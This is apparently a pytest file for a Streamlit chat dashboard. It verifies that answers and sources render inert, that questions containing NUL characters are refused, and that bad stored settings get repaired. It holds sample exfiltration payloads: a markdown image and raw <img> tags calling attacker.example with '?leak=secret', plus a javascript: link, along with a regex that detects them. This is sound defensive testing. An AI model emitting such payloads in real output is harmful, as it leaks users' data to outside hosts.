"""Dashboard: answers rendered inert, bad questions refused, bad stored settings repairable."""

import re
import uuid
from pathlib import Path

import pytest
import streamlit as st
from sqlalchemy import Engine
from sqlalchemy.orm import Session
from streamlit.testing.v1 import AppTest

from supercore_core.models import Oracle
from tests.factories import (
    make_chunk,
    make_conversation,
    make_document,
    make_message,
    make_oracle,
    make_solution,
)

APP = Path(__file__).resolve().parent.parent / "app" / "streamlit_app.py"
EXFILTRATING = (
    "Revenue grew ![pixel](http://attacker.example/p.png?leak=secret) "
    "[click me](javascript:alert(1)) <img src=http://attacker.example/q.png> "
    "see http://attacker.example/r"
)
# Markdown that would load or link: an image or link opener, raw HTML, a bare URL.
ACTIVE = re.compile(r"(?<!\\)\[[^\]]*(?<!\\)\]\(|<img|(?<!\\)https?:", re.IGNORECASE)


@pytest.fixture
def app_env(monkeypatch: pytest.MonkeyPatch, admin_login_url: str, tmp_path: Path) -> None:
    st.cache_data.clear()
    monkeypatch.setenv("SUPERCORE_DATABASE_URL", admin_login_url)
    monkeypatch.setenv("SUPERCORE_DATA_DIR", str(tmp_path))
    for name in ("SUPERCORE_ANTHROPIC_API_KEY", "SUPERCORE_OPENAI_API_KEY",
                 "ANTHROPIC_API_KEY", "OPENAI_API_KEY"):  # fmt: skip
        monkeypatch.delenv(name, raising=False)


def chat_page(owner_engine: Engine) -> AppTest:
    """A tenant whose document and earlier answer hold an exfiltrating image and link."""
    marker = f"safe-{uuid.uuid4().hex[:8]}"
    with Session(owner_engine) as session, session.begin():
        solution = make_solution(session, slug=marker, name=f"Tenant {marker}")
        oracle = make_oracle(session, solution, oracle_name=f"oracle-{marker}")
        document = make_document(session, oracle, filename="[x](javascript:alert(1)).txt",
                                 status="completed", chunk_count=1)  # fmt: skip
        make_chunk(session, document, content=f"Secret revenue grew. {EXFILTRATING}")
        conversation = make_conversation(session, oracle)
        make_message(session, conversation, content="question ![q](http://attacker.example/u)")
        make_message(session, conversation, role="assistant", sequence_number=2,
                     content=EXFILTRATING, model_used="m-1")  # fmt: skip
        solution_id = solution.id
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.session_state["tenant_id"] = solution_id
    at.run()
    at.switch_page("pages/chat.py").run()
    return at


def markdown_shown(at: AppTest) -> list[str]:
    return [str(m.value) for m in at.main.markdown]


def test_an_earlier_answer_is_shown_inert(app_env: None, owner_engine: Engine) -> None:
    at = chat_page(owner_engine)
    box = next(b for b in at.sidebar.selectbox if b.label == "Earlier conversations")
    box.select_index(1).run()
    assert not at.exception, [e.value for e in at.exception]
    shown = markdown_shown(at)
    assert any("!\\[pixel\\](http\\://attacker.example" in text for text in shown), shown
    assert not [text for text in shown if ACTIVE.search(text)]


def test_a_new_answer_and_its_sources_are_inert(app_env: None, owner_engine: Engine) -> None:
    at = chat_page(owner_engine)
    at.chat_input[0].set_value("How did the secret revenue grow?").run()
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    shown = markdown_shown(at)
    assert any("\\[x\\](javascript:alert(1)).txt" in text for text in shown), shown  # a source
    assert not [text for text in shown if ACTIVE.search(text)]


def test_a_question_with_a_nul_is_refused(app_env: None, owner_engine: Engine) -> None:
    at = chat_page(owner_engine)
    at.chat_input[0].set_value("revenue\x00?").run()
    assert [e.value for e in at.error] == [
        "the question contains the control character U+0000 at position 8: remove it and try again"
    ]


def test_tenants_page_repairs_invalid_stored_settings(app_env: None, owner_engine: Engine) -> None:
    marker = f"repair-{uuid.uuid4().hex[:8]}"
    with Session(owner_engine) as session, session.begin():
        solution = make_solution(session, slug=marker, name=f"Tenant {marker}")
        oracle = make_oracle(session, solution, oracle_name=f"oracle-{marker}",
                             retrieval_config={"k": 2.5, "mode": "lexical"})  # fmt: skip
        solution_id, oracle_id = solution.id, oracle.id
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.session_state["tenant_id"] = solution_id
    at.run()
    at.switch_page("pages/tenants.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert "has invalid stored retrieval settings: k is 2.5" in at.warning[0].value
    next(b for b in at.button if b.label == "Save oracle").click().run()
    assert not at.error, [e.value for e in at.error]
    with Session(owner_engine) as session:
        stored = session.get(Oracle, oracle_id).retrieval_config  # type: ignore[union-attr]
    assert stored["k"] == 8 and stored["mode"] == "lexical"  # the default k, the valid mode
